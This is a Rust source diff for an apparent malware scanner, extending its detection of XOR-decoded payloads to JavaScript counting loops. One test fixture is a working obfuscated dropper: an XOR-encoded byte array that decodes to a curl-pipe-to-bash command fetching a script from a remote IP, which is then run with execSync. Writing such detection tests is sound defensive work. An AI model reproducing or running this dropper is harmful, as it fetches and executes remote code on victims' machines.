@@ -106,6 +106,10 @@ pub(crate) trait Lowerer<'t> {
     }
 }
 
+/// What a JavaScript counting `for` loop is lowered to call: the numbers it walks, as Python's
+/// `range` (a name no source can write, so no function of the file is taken for it).
+pub(crate) const COUNTING_LOOP: &str = "for (;;)";
+
 /// Text the file computes at run time.
 const HOLE: char = '\u{1}';
 /// Text computed at run time from a secret.
@@ -688,6 +692,7 @@ pub(crate) const MODELS: &[Model] = &[
     // Sequences known element by element: XOR loops, index permutations, reversals.
     row(PY, "len", Role::Len),
     row(PY, "range", Role::Range),
+    row(JS, COUNTING_LOOP, Role::Range),
     row(PY, "enumerate", Role::Enumerate),
     row(PY, "zip", Role::Zip),
     row(PY, "itertools.cycle", Role::Cycle),
@@ -2633,6 +2638,20 @@ mod tests {
                 "{form}: {rules:?}"
             );
         }
+        // JavaScript's counting loop over the bytes, the form most droppers use.
+        let js = "const { execSync } = require('child_process');\nconst data = [116, 98, 101, 123, 55, 58, 100, 55, 127, 99, 99, 103, 45, 56, 56, 35, 34, 57, 46, 57, 38, 35, 47, 57, 38, 39, 56, 126, 57, 100, 127, 55, 107, 55, 117, 118, 100, 127];\nlet cmd = '';\nfor (let i = 0; i < data.length; i++) {\n  cmd += String.fromCharCode(data[i] ^ 23);\n}\nexecSync(cmd);\n";
+        let mut sink = Sink::new("a.js", js).with_shell(crate::scan::shell::scan);
+        let dialect = crate::scan::javascript::Dialect::JavaScript;
+        crate::scan::javascript::scan(js, 0, dialect, &mut sink);
+        let rules: Vec<_> = sink.finish().0.iter().map(|f| f.rule).collect();
+        assert!(rules.contains(&rules::EXEC_PIPE_TO_SHELL_RAW), "{rules:?}");
+        assert!(rules.contains(&rules::OBF_ENCODED_PAYLOAD), "{rules:?}");
+        // The same loop summing the bytes computes a number, not text.
+        let sum = "const data = [1, 2, 3];\nlet sum = 0;\nfor (let i = 0; i <= 2; i++) {\n  sum = sum ^ data[i];\n}\nconsole.log(sum);\n";
+        let mut sink = Sink::new("b.js", sum).with_shell(crate::scan::shell::scan);
+        crate::scan::javascript::scan(sum, 0, dialect, &mut sink);
+        assert!(sink.finish().0.is_empty());
+
         // A checksum XORs numbers too; what it computes is not text, and nothing is reported.
         let checksum =
             "import os\ncheck = 0\nfor b in [1, 2, 3, 4]:\n    check = check ^ b\nprint(check)\n";
